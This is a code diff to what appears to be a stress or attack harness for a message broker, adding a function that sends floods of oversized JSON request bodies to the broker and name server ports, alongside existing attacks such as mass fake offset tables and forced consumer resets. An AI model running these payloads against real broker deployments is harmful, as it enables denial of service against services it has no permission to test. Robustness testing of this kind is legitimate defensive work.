@@ -53,6 +53,7 @@ SETTINGS = {
     "adminAllowList": "127.0.0.1",
     "mappedFileSizeCommitLog": 32 << 20,
 }
+JOIN = RequestCode.JOIN_CONSUMER_OFFSET
 Attack = Callable[[BrokerGroup, contextlib.ExitStack], None]
 
 
@@ -124,6 +125,23 @@ def escaped_quotes(group: BrokerGroup, stack: contextlib.ExitStack) -> None:
             pour(connect(port, stack), *[encode_frame(code, 1, ext, body)] * 10)
 
 
+def many_short_values(group: BrokerGroup, stack: contextlib.ExitStack) -> None:
+    """As many as a body holds, of the requests that may have large ones, as JSON and in its dialect."""
+    sizes = {RequestCode.LOCK_BATCH_MQ: 4 * MIB, RequestCode.HEART_BEAT: MIB, JOIN: MIB // 2}
+    bodies = [(group.master_port, code, size) for code, size in sizes.items()]
+    for port, code, size in (*bodies, (group.namesrv_port, RequestCode.REGISTER_BROKER, 15 * MIB)):
+        for head, value, tail in (
+            (b'{"x":[', b"[],", b"[]]}"),
+            (b"{", b"1:1,", b"2:2}"),
+            (b'{0:0,"x":[', b'"",', b'""]}'),
+            (b"[", b"2,", b""),
+        ):
+            body = head + value * ((size - 100) // len(value)) + tail
+            ext = {"brokerName": "x", "brokerAddr": "203.0.113.66:1", "clusterName": "c", "brokerId": "0"}
+            peer = connect(port, stack)
+            pour(peer, *(encode_frame(code, number, ext, body) for number in range(3)))
+
+
 def pipelined_queries(group: BrokerGroup, stack: contextlib.ExitStack) -> None:
     """For a key that 60,000 messages have, none of which fits."""
     with group.master_client() as client:
@@ -144,7 +162,7 @@ def resets_for_who_does_not_read(group: BrokerGroup, stack: contextlib.ExitStack
         topic |= {"readQueueNums": str(QUEUES), "writeQueueNums": str(QUEUES), "topicSysFlag": "0"}
         client.call(17, topic | {"order": "false"}).expect(0)
         table = {"offsetTable": {"Wide@Reset": {str(queue): 0 for queue in range(QUEUES)}}}
-        client.call(RequestCode.JOIN_CONSUMER_OFFSET, {}, json.dumps(table).encode())
+        client.call(JOIN, {}, json.dumps(table).encode())
     peer = connect(group.master_port, stack)
     pour(peer, encode_frame(34, 1, {}, json.dumps({"clientID": "m", "consumerDataSet": [member]}).encode()))
     reset = {"topic": "Wide", "group": "Reset", "timestamp": "-1", "isForce": "true"}
@@ -153,11 +171,10 @@ def resets_for_who_does_not_read(group: BrokerGroup, stack: contextlib.ExitStack
 
 
 def progress_of_unknown_topics(group: BrokerGroup, stack: contextlib.ExitStack) -> None:
-    code = RequestCode.JOIN_CONSUMER_OFFSET
     peer = connect(group.master_port, stack)
     for frame in range(5):
         rows = {f"none-{frame}-{number:06d}-{'x' * 60}@no-group": {"0": 0} for number in range(45_000)}
-        pour(peer, encode_frame(code, frame, {}, json.dumps({"offsetTable": rows}).encode()))
+        pour(peer, encode_frame(JOIN, frame, {}, json.dumps({"offsetTable": rows}).encode()))
 
 
 def false_slaves(group: BrokerGroup, stack: contextlib.ExitStack) -> None:
@@ -302,6 +319,7 @@ ATTACKS: tuple[Attack, ...] = (
     held_pulls,
     continuation_lines,
     escaped_quotes,
+    many_short_values,
     pipelined_queries,
     resets_for_who_does_not_read,
     progress_of_unknown_topics,
